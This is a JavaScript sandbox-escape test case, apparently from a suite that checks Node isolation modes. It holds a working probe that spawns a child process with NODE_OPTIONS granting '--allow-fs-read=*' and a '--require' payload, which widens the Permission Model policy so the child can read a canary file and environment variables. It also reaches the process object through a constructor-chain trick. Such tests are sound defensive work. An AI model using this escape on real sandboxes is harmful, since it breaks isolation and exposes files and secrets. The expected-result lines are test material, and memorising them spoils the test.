/*---
id: cp-node-options-widen
title: NODE_OPTIONS in a spawned child's environment widens its Permission Model policy
category: child-process
goal: Start a Node child whose policy is wider than the guest's own — reading canary.txt and the environment outside the guest's allowed paths — and run guest code in it first (--require).
technique: Under the Permission Model with --allow-child-process, Node 24 passes its permission flags on to children through NODE_OPTIONS, but it adds them to the NODE_OPTIONS the guest put in the child's env, and --allow-fs-read grants add up: env NODE_OPTIONS='--allow-fs-read=* --require <jail>/payload.js' gives the child read access everywhere and runs the payload before its main script.
references: https://nodejs.org/api/cli.html#node_optionsoptions, https://nodejs.org/api/permissions.html#process-based-permissions, https://nodejs.org/api/cli.html#--allow-child-process
limits: timeout=8000
expect: * = escaped; *+isolated-vm = contained; *+quickjs = contained
expect-hardened: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped
---*/
// Under a policy with the Permission Model but --allow-child-process (`workbench run --allow-fs-read '$JAIL'
// --allow-fs-write '$JAIL' --allow-child-process`), the baseline child is denied canary.txt and the widened one
// is not. Without the Permission Model (the default policy) both read it: spawning at all is the breach there.
const P =
  typeof process !== 'undefined'
    ? process
    : (() => {
        try {
          return this.constructor.constructor('return process')();
        } catch {
          return undefined;
        }
      })();
function probe() {
  const cp = P.getBuiltinModule('node:child_process');
  const fs = P.getBuiltinModule('node:fs');
  const jail = P.cwd().endsWith('/jail') ? P.cwd() : `${P.cwd()}/jail`;
  const runDir = jail.slice(0, -'/jail'.length);
  const payload = `${jail}/node-options-payload.js`;
  fs.writeFileSync(
    payload,
    `try { process._rawDebug('payload: ' + require('fs').readFileSync(${JSON.stringify(`${runDir}/canary.txt`)}, 'utf8').trim()); } catch (e) { process._rawDebug('payload: ' + e.code); }\n`,
  );
  const main = `let f, e; try { f = require('fs').readFileSync(${JSON.stringify(`${runDir}/canary.txt`)}, 'utf8').trim(); } catch (x) { f = x.code; } try { e = process.report.getReport().environmentVariables.WORKBENCH_CANARY || 'unset'; } catch (x) { e = x.code; } console.log('child: canary.txt=' + f + ' env=' + e + ' NODE_OPTIONS=' + process.env.NODE_OPTIONS);`;
  const out = {};
  for (const [name, extra] of [
    ['baseline', undefined],
    ['widened', `--allow-fs-read=* --require ${payload}`],
  ]) {
    const env = { ...P.env };
    if (extra) env.NODE_OPTIONS = extra;
    try {
      const r = cp.spawnSync(P.execPath, ['-e', main], { encoding: 'utf8', env, timeout: 3000 });
      out[name] =
        `${r.stdout}${(r.stderr || '').replace(/\(node:\d+\) \[PERM0002\][^\n]*\n[^\n]*\n?/g, '')}`
          .trim()
          .slice(0, 400) || `${r.error ? r.error.code : `exit ${r.status}`}`;
    } catch (e) {
      out[name] = `${e.code || e.name}: ${e.message}`.slice(0, 160);
    }
    console.log(`${name}:`, out[name]);
  }
  return out;
}
P ? probe() : 'no process object';
